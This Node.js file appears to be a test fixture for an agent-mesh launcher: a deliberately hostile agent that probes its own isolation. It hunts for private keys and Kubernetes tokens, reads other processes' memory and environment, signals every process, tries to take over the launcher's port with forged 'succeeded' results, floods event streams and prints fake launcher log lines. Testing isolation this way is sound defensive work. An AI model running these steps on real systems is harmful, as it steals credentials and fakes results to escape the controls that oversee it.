// An agent that attacks its launcher in every way it can and returns what it obtained. Plain Node.js, so that it runs in any image. With
// TAKE_OVER (JSON with key and cert) it also binds the launcher's port once it is free and answers as a launcher would.
import { existsSync, readFileSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs'
import { createServer, get, request as requestHttp } from 'node:http'
import { createServer as createTlsServer, request as requestTls } from 'node:https'
import { connect, createServer as createTcpServer } from 'node:net'

const outcome = (act) => {
  try {
    return act()
  } catch (error) {
    return `failed ${error.code}`
  }
}
const settle = (begin) => new Promise((resolve) => begin((text) => resolve(text)))
const read = (path) => outcome(() => `GOT ${readFileSync(path).length}`)
const processes = () => readdirSync('/proc').filter((name) => /^\d+$/.test(name))
const textOf = (path) => String(outcome(() => readFileSync(path, 'latin1')))
const link = (path) => outcome(() => readlinkSync(path))
const launchers = () =>
  processes().filter(
    (pid) => Number(pid) !== process.pid && textOf(`/proc/${pid}/cmdline`).split('\0').includes('/mesh/launcher.mjs'),
  )

const bind = (port) =>
  settle((end) => {
    const server = createTcpServer()
    server.once('error', ({ code }) => end(`failed ${code}`))
    server.listen(port, '0.0.0.0', () => server.close(() => end('GOT')))
  })
const reach = (port) =>
  settle((end) => {
    const socket = connect(port, '127.0.0.1', () => (socket.destroy(), end('GOT')))
    socket.once('error', ({ code }) => end(`failed ${code}`))
  })
const ask = (method, path, headers = {}) =>
  settle((end) => {
    const about = { host: '127.0.0.1', port: 8080, method, path, headers, rejectUnauthorized: false }
    const request = requestTls(about, (response) => (response.resume(), end(`answered ${response.statusCode}`)))
    request.once('error', ({ code }) => end(`failed ${code}`))
    request.end()
  })

// Private keys in files that this user can read, also those of other processes.
const searched = ['/var/run/secrets', '/run', '/etc/mesh', '/tmp', '/dev/shm']
const filesBelow = (folder) => {
  const entries = outcome(() => readdirSync(folder, { recursive: true, withFileTypes: true }))
  return Array.isArray(entries) ? entries.filter((one) => one.isFile() || one.isSymbolicLink()) : []
}
const keyFiles = () => {
  const roots = ['', ...processes().map((pid) => `/proc/${pid}/root`)]
  const paths = roots.flatMap((root) =>
    searched.flatMap((folder) => filesBelow(root + folder).map(({ parentPath, name }) => `${parentPath}/${name}`)),
  )
  return paths.filter((path) => /PRIVATE KEY|"kty":"OKP"[^}]*"d":/.test(textOf(path)))
}

// With what it has, it asks the state role to certify its own key.
const certify = (token) =>
  settle((end) => {
    const headers = { authorization: `Bearer ${token.trim()}`, 'content-type': 'application/json' }
    const about = { method: 'POST', headers, timeout: 5_000 }
    const asked = requestHttp('http://mesh-state.mesh-system.svc:3002/launchers/certificates', about, (response) => {
      response.resume()
      end(`answered ${response.statusCode}`)
    })
    asked.once('timeout', () => asked.destroy())
    asked.once('error', ({ code }) => end(`failed ${code}`))
    asked.end(JSON.stringify({ x: 'A'.repeat(43) }))
  })

async function tryEverything() {
  for (const pid of processes())
    if (Number(pid) !== process.pid && pid !== '1') outcome(() => process.kill(Number(pid), 'SIGUSR1'))
  const token = textOf(process.env.MODEL_GATEWAY_TOKEN_FILE ?? '')
  return {
    key: read('/var/run/secrets/mesh/keys/agent.key'),
    keyFiles: keyFiles(),
    certificate: await certify(token),
    stateToken: read('/var/run/secrets/mesh/launcher/state'),
    config: read('/etc/mesh/agent/agent.json'),
    apiToken: read('/var/run/secrets/kubernetes.io/serviceaccount/token'),
    gatewayToken: read(process.env.MODEL_GATEWAY_TOKEN_FILE ?? ''),
    launchersInProc: launchers().length,
    launcherMemory: launchers().map((pid) => read(`/proc/${pid}/mem`)),
    environments: processes().filter((pid) =>
      /STATE_TOKEN_FILE|MESH_KEY_FILE|PRIVATE KEY/.test(textOf(`/proc/${pid}/environ`)),
    ),
    roots: processes().filter((pid) =>
      ['keys/agent.key', 'launcher/state'].some((file) => existsSync(`/proc/${pid}/root/var/run/secrets/mesh/${file}`)),
    ),
    namespaces: processes().filter((pid) => link(`/proc/${pid}/ns/pid`) !== link('/proc/self/ns/pid')),
    variables: Object.keys(process.env).filter((name) => /^(MESH_|STATE_URL)/.test(name)),
    uid: process.getuid(),
    capabilities: /CapBnd:\t(\w+)/.exec(textOf('/proc/self/status'))?.[1],
    noNewPrivileges: /NoNewPrivs:\t(\d)/.exec(textOf('/proc/self/status'))?.[1],
    seccomp: /Seccomp:\t(\d)/.exec(textOf('/proc/self/status'))?.[1],
    writeRoot: outcome(() => (writeFileSync('/evil', ''), 'GOT')),
    writeLauncher: outcome(() => (writeFileSync('/mesh/launcher.mjs', ''), 'GOT')),
    writeTmp: outcome(() => (writeFileSync('/tmp/evil', ''), 'GOT')),
    bindLauncher: await bind(8080),
    bindDelegate: await bind(2994),
    inspector: await reach(9229),
    runsWithoutGrant: await ask('GET', '/runs/r1/events'),
    invokeWithToken: await ask('POST', '/invoke', {
      'x-mesh-run-id': 'r1',
      'x-mesh-run-grant': token,
      'x-mesh-run-attempt': token,
      'content-type': 'application/json',
      'content-length': '0',
    }),
  }
}

const note = (text) =>
  process.env.WITNESS && get(`${process.env.WITNESS}/${encodeURIComponent(text)}`).on('error', () => undefined)

function forge(request, response) {
  // Probes of the kubelet are of no use to an attacker.
  if (!/^\/(healthz|livez|idle|agent\/livez)$/.test(request.url)) {
    const grant = request.headers['x-mesh-run-grant'] === undefined ? 'no grant' : 'GRANT'
    note(`forger was asked ${request.method} ${request.url} ${grant}`)
  }
  request.resume()
  const data = { state: 'succeeded', output: 'FORGED BY AGENT', usage: {} }
  const entry = { n: 1, ts: new Date().toISOString(), kind: 'run.succeeded', path: ['evil'], spanId: '0', data }
  if (request.url.includes('/events')) response.end(`data: ${JSON.stringify(entry)}\n\nevent: stream.end\ndata: {}\n\n`)
  else response.end(JSON.stringify({ ticket: 'forged.1', state: 'running', status: 'ok' }))
}

function takeOver(identity) {
  const server = createTlsServer(identity, forge)
  server.on('error', () => setTimeout(listen, 1))
  server.on('listening', () => note('forger listens'))
  const listen = () => server.listen(8080, '0.0.0.0')
  listen()
}
if (process.env.TAKE_OVER) takeOver(JSON.parse(process.env.TAKE_OVER))

function flood(response, count) {
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  const event = 'event: step.started\ndata: {"name":"x"}\n\n'.repeat(1_000)
  const more = () => {
    for (; count > 0; count -= 1_000)
      if (!response.write(event)) return void response.once('drain', () => ((count -= 1_000), more()))
    response.end('event: output\ndata: {"output":"flooded"}\n\n')
  }
  more()
}

console.log(JSON.stringify({ launcher: 'evil', span: 'forged', msg: 'a line that looks like the launcher’s' }))
createServer((request, response) => {
  if (request.url === '/healthz') return response.end('ok')
  let body = ''
  request.on('data', (chunk) => (body += chunk))
  request.on('end', async () => {
    const { input } = JSON.parse(body || '{}')
    if (input?.flood) return flood(response, input.flood)
    const output = input === 'try' ? await tryEverything() : 'honest'
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ output }))
  })
}).listen(Number(process.env.AGENT_PORT), '127.0.0.1')
